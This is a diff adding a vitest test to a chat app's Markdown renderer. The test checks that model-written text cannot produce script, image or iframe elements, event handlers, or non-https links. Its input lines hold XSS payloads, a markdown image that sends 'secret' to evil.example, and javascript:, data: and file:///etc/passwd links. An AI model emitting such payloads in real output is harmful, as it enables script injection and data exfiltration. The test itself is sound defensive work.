@@ -2,7 +2,9 @@
 import { renderToStaticMarkup } from 'react-dom/server';
 import { describe, expect, it } from 'vitest';
 import Markdown from '@/renderer/features/chat/markdown/Markdown';
+import { AppContext } from '@/renderer/state/useApp';
 import { TooltipProvider } from '@/renderer/ui/Tooltip';
+import { openWindow } from '@/test/fixtures/renderer/window';
 
 const arabic = 'المفتاح الأزرق في الخزانة.';
 const english = 'The blue key is in the cupboard.';
@@ -60,5 +62,27 @@ describe.each([true, false])('an answer, streaming: %s', (streaming) => {
     expect(of(answer, 'figure')).toEqual(['ltr']);
     expect(of(answer, 'pre')).toEqual(['ltr']);
     expect(of(answer, 'code')).toEqual(['ltr', 'ltr']);
+  });
+});
+
+describe('what a model writes', () => {
+  it('is never markup: no element, no image and no address but https', async () => {
+    const written = [
+      '<script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src="https://evil.example"></iframe>',
+      '![pixel](https://evil.example/p.png?words=secret)',
+      '[a](javascript:alert(1)) [b](data:text/html,x) [c](http://evil.example) [d](file:///etc/passwd) [e](app://x)',
+      '<a href="javascript:alert(1)">f</a> [g](https://example.com/) <https://example.com/h>',
+    ].join('\n\n');
+    const { app } = await openWindow({ start: false });
+    const html = renderToStaticMarkup(
+      <AppContext value={app}>
+        <Markdown text={written} streaming={false} documents={[]} />
+      </AppContext>,
+    );
+    for (const tag of ['script', 'img', 'iframe']) expect(html).not.toContain(`<${tag}`);
+    expect([...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map(([, address]) => address)).toEqual([
+      ...['https://example.com/', 'https://example.com/h'],
+    ]);
+    expect(html).not.toMatch(/<[^>]*\son\w+=/);
   });
 });
